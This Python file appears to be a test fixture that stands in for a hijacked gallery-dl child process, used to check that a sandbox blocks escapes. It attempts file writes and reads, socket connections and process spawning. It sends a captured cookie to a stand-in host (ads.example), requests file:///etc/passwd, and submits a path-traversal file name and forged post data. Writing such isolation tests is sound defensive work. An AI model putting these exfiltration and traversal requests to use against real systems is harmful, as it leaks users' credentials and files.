"""A process in the place of gallery-dl's that was taken over: it tries every way out, and says whatever it likes."""

from __future__ import annotations

import os
import socket as sockets
import sys
from pathlib import Path
from typing import TYPE_CHECKING

from capture.extractors.child.messages import Ended, FetchQuestion
from capture.extractors.child.talk import Talk
from capture.extractors.gallery.messages import FoundPost, GalleryRemark, GalleryTask, PostFile
from hashing.case.post import Account, Post

if TYPE_CHECKING:
    import socket


def extract(talk: socket.socket) -> None:
    """Do so. What came of each try is said as a remark."""
    parent = Talk(talk)
    task = parent.task(GalleryTask)
    for way in (_write, _read, _connect, _start):
        try:
            way()
            said = "done"
        except OSError as error:
            said = f"refused ({type(error).__name__})"
        parent.say(GalleryRemark(words=f"{way.__name__}: {said}"))
    secret = task.cookies[0].value if task.cookies else ""
    parent.say(GalleryRemark(words=f"holds {secret}"))
    for url, method in (
        ("file:///etc/passwd", "GET"),
        (f"https://ads.example/?{secret}", "GET"),
        ("https://www.reddit.com/api/del", "DELETE"),
        ("http://127.0.0.1:9/", "GET"),
    ):
        answered, file = parent.ask(FetchQuestion(url=url, method=method))
        parent.say(GalleryRemark(words=f"{method} {url[:20]}: {answered.status} {answered.reason} {file is not None}"))
    parent.ask(FetchQuestion(url="https://www.reddit.com/r/halden/.json"))
    forged = Account(handle="alice.example", id="did:plc:alice")
    parent.say(FoundPost(module="reddit", post=Post(platform="bluesky", server="", id="at://alice/1", author=forged)))
    files = (
        PostFile(url="file:///etc/passwd"),
        PostFile(url="../../../outside.jpg"),
        PostFile(url="https://i.redd.it/media/p1-0.jpg", headers={"Cookie": "a=b", "Referer": "https://x.example/"}),
    )
    post = Post(platform="reddit", server="", id="reddit:1abc1", author=Account(handle="mallory"), text="I did it")
    parent.say(FoundPost(module="reddit", post=post, names=("1abc1",), files=files))
    parent.say(Ended())
    sys.exit(0)


def _write() -> None:
    Path("/tmp/goldenhour-taken-over").write_text("x")  # noqa: S108 - what must not be possible


def _read() -> None:
    Path("/etc/hostname").read_text()


def _connect() -> None:
    sockets.create_connection(("127.0.0.1", 9), timeout=1).close()


def _start() -> None:
    os.spawnv(os.P_WAIT, "/bin/true", ["true"])  # noqa: S606 - what must not be possible
